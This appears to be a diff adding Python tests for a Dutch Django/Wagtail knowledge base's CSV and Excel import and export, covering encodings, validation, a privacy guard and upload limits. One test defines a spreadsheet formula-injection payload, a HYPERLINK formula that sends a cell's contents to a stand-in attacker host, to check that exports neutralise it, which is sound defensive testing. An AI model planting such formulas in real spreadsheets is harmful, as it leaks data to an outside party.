@@ -3,6 +3,9 @@ import io
 
 import pytest
 from django.core.management import CommandError, call_command
+from django.db import transaction
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 from wagtail.models import Revision
 
@@ -205,3 +208,162 @@ def test_demo_loads_twice_to_the_same_state(schema):
     from kennisbank.models import BeslismomentPage
 
     assert BeslismomentPage.objects.live().count() == 5
+
+
+# --- Dutch Excel, optional columns, validation the dry run shares with the import ------------
+
+
+def _excel_csv(rijen, kolommen=KOLOMMEN, codering="cp1252", scheiding=";"):
+    uit = io.StringIO()
+    schrijver = csv.DictWriter(
+        uit, fieldnames=kolommen, extrasaction="ignore", delimiter=scheiding, lineterminator="\r\n"
+    )
+    schrijver.writeheader()
+    schrijver.writerows(rijen)
+    return uit.getvalue().encode(codering)
+
+
+def test_csv_as_dutch_excel_saves_it_imports(schema):
+    cp1252 = _excel_csv([rij(1, titel="Beëindiging met één gesprek")])
+    assert importeer(cp1252).fouten == []
+    assert InterventiePage.objects.get(slug="import-1").title == "Beëindiging met één gesprek"
+    dubbele_bom = b"\xef\xbb\xbf" + _excel_csv([rij(2)], codering="utf-8-sig")
+    assert importeer(dubbele_bom).nieuw == ["import-2"]
+    utf16 = _excel_csv([rij(3, titel="Ärger")], codering="utf-16", scheiding="\t")
+    assert importeer(utf16).nieuw == ["import-3"]
+
+
+def test_optional_columns_may_be_left_out(schema):
+    alleen_verplicht = ["titel", "samenvatting", "fases", "laag"]
+    resultaat = importeer(als_csv([rij(1)], kolommen=alleen_verplicht))
+    assert resultaat.fouten == [] and resultaat.nieuw == ["interventie-1"]
+    nieuw = InterventiePage.objects.get(slug="interventie-1")
+    assert (nieuw.status, nieuw.bewijsniveau, nieuw.duur) == ("beschikbaar", "niet_beoordeeld", "")
+
+    importeer(als_csv([rij(2)]))
+    bijwerken = als_csv([rij(2, titel="Nieuwe titel")], kolommen=["slug", *alleen_verplicht])
+    assert importeer(bijwerken).gewijzigd == ["import-2"]
+    pagina = InterventiePage.objects.get(slug="import-2")
+    assert pagina.title == "Nieuwe titel"
+    assert (pagina.status, pagina.duur, pagina.bewijsniveau) == (
+        "pilot",
+        "12 weken",
+        "goed_beschreven",
+    )
+    assert sorted(t.name for t in pagina.tags.all()) == ["MI", "netwerk"]
+    assert {d.slug for d in pagina.doelgroepen.all()} == {"lvb", "jongeren"}
+    assert importeer(bijwerken).ongewijzigd == ["import-2"]
+
+
+def test_a_300_character_slug_is_refused_by_the_dry_run_not_by_the_import(schema):
+    bestand = als_csv([rij(1, slug="a" * 300)])
+    proef = importeer(bestand, proef=True)
+    assert [(f.rij, f.kolom) for f in proef.fouten] == [(2, "slug")]
+    assert "255" in proef.fouten[0].melding
+    assert [(f.rij, f.kolom) for f in importeer(bestand).fouten] == [(2, "slug")]
+    assert not InterventiePage.objects.exists()
+
+
+def test_the_privacy_guard_refuses_client_data_in_an_import(schema):
+    bestand = als_csv(
+        [
+            rij(1),
+            rij(2, samenvatting="Bel mevrouw op 06-12345678."),
+            rij(3, bronnen="BSN 111222333"),
+        ]
+    )
+    resultaat = importeer(bestand, proef=True)
+    assert [(f.rij, f.kolom) for f in resultaat.fouten] == [(3, "samenvatting"), (4, "bronnen")]
+    assert "06-12345678" in resultaat.fouten[0].melding
+    assert "111222333" in resultaat.fouten[1].melding
+    assert importeer(bestand).fouten and not InterventiePage.objects.exists()
+
+
+def test_control_characters_are_taken_out_of_an_import_with_a_notice(client_als, schema):
+    bestand = als_csv([rij(1, samenvatting="Eerst dit.\x0bDan dat.", titel="Titel\x00 een")])
+    resultaat = importeer(bestand)
+    assert resultaat.fouten == []
+    assert [(m.rij, m.kolom) for m in resultaat.meldingen] == [(2, "titel"), (2, "samenvatting")]
+    assert "U+000B" in resultaat.meldingen[1].melding
+    pagina = InterventiePage.objects.get()
+    assert (pagina.title, pagina.samenvatting) == ("Titel een", "Eerst dit.\nDan dat.")
+
+
+@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
+def test_exports_survive_control_characters_in_old_data(client_als, schema, formaat):
+    importeer(als_csv([rij(1)]))
+    InterventiePage.objects.update(samenvatting="Oud\x0bgeplakt uit Word\x00.")
+    response = client_als("demo-consulent").get(f"/interventieschema/export.{formaat}")
+    assert response.status_code == 200
+    if formaat == "xlsx":
+        waarde = load_workbook(io.BytesIO(response.content)).active["C2"].value
+    else:
+        waarde = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[
+            1
+        ][2]
+    assert waarde == "Oudgeplakt uit Word."
+
+
+AANVAL = '=HYPERLINK("http://aanval.example/?"&A1,"Klik voor de handreiking")'
+
+
+def test_formula_injection_is_neutralised_in_the_csv_and_xlsx_exports(client_als, schema):
+    bestand = als_csv([rij(1, titel=AANVAL, aanbieder="@SUM(1+1)", duur="-2+3", kosten="+A1*2")])
+    assert importeer(bestand).fouten == []
+    client = client_als("demo-consulent")
+    response = client.get("/interventieschema/export.csv")
+    assert response.content.startswith("\ufeff".encode())
+    tekst = response.content.decode("utf-8-sig")
+    kop, rij_ = list(csv.reader(io.StringIO(tekst), delimiter=";"))
+    cellen = dict(zip(kop, rij_, strict=True))
+    assert cellen["titel"] == "'" + AANVAL
+    assert (cellen["aanbieder"], cellen["duur"], cellen["kosten"]) == (
+        "'@SUM(1+1)",
+        "'-2+3",
+        "'+A1*2",
+    )
+
+    blad = load_workbook(io.BytesIO(client.get("/interventieschema/export.xlsx").content)).active
+    assert blad["A2"].value == AANVAL and blad["A2"].data_type == "s"
+
+    # The apostrophe is undone on import: exporting and importing again changes nothing.
+    assert importeer(response.content, naam="export.csv").ongewijzigd == ["import-1"]
+    assert InterventiePage.objects.get().title == AANVAL
+
+
+def test_an_upload_over_the_limit_is_refused_before_it_is_read(client_als, schema):
+    client = client_als("demo-kennisbeheerder")
+    bestand = io.BytesIO(als_csv([rij(1)]) + b"x" * (20 * 1024 * 1024))
+    bestand.name = "groot.csv"
+    html = client.post("/interventieschema/importeren/", {"bestand": bestand}).content.decode()
+    assert "Het bestand is 20,0 MB; de grens is 10 MB." in html
+    assert not InterventiePage.objects.exists() and not ImportTaak.objects.exists()
+
+
+TEKSTEN = st.one_of(
+    st.text(max_size=40),
+    st.text(alphabet="abcxyz-0123456789", min_size=240, max_size=320),  # slug-like, long
+    st.text(min_size=100, max_size=700),
+    st.sampled_from(["=1+1", "'=1+1", "\x0b", "\x00", " ", ";", "06-12345678", "ë;ä"]),
+)
+
+
+@settings(
+    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(kolom=st.sampled_from(KOLOMMEN), waarde=TEKSTEN)
+@example(kolom="slug", waarde="a" * 300)  # passed the old dry run, then failed the import
+@example(kolom="titel", waarde="x" * 256)
+@example(kolom="bronnen", waarde="Bron\x0b\x00")
+def test_generated_input_in_any_column_dry_run_and_import_agree(schema, kolom, waarde):
+    bestand = als_csv([rij(1, **{kolom: waarde})])
+    with transaction.atomic():
+        proef = importeer(bestand, proef=True)
+        echt = importeer(bestand)
+        assert [(f.rij, f.kolom) for f in echt.fouten] == [(f.rij, f.kolom) for f in proef.fouten]
+        assert InterventiePage.objects.count() == (0 if proef.fouten else 1)
+        if not proef.fouten:
+            assert echt.nieuw == proef.nieuw
+            pagina = InterventiePage.objects.get()
+            pagina.full_clean(exclude=["path", "depth", "url_path"])  # what was written is valid
+        transaction.set_rollback(True)
